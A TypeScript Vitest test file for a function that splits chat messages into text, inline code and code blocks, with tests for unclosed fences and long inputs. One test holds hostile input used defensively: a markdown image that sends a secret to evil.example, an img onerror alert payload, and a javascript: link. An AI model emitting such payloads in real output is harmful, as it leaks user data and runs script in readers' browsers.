import { describe, expect, it } from 'vitest'
import { toMessageParts } from './message-parts.ts'

describe('toMessageParts', () => {
  it('knows code in lines and in blocks', () => {
    expect(toMessageParts('Call `f()`:\n```py\nf()\n```\ndone')).toEqual([
      { kind: 'text', text: 'Call ' },
      { kind: 'code', text: 'f()' },
      { kind: 'text', text: ':\n' },
      { kind: 'block', text: 'f()' },
      { kind: 'text', text: '\ndone' },
    ])
  })

  it('takes a fence that is never closed to the end, and a longer one around a shorter one', () => {
    expect(toMessageParts('```\nx = `1`')).toEqual([{ kind: 'block', text: 'x = `1`' }])
    expect(toMessageParts('````md\n```\nx\n```\n````')).toEqual([{ kind: 'block', text: '```\nx\n```' }])
  })

  it('leaves links, pictures and HTML the text that they are', () => {
    const hostile = '![x](https://evil.example/?d=SECRET) <img src=x onerror=alert(1)> [go](javascript:alert(1))'
    expect(toMessageParts(hostile)).toEqual([{ kind: 'text', text: hostile }])
  })

  it('is done with a long hostile message at once', () => {
    const text = '```\n`'.repeat(5000)
    expect(
      toMessageParts(text)
        .map((part) => part.text)
        .join('').length,
    ).toBeLessThanOrEqual(text.length)
  })
})
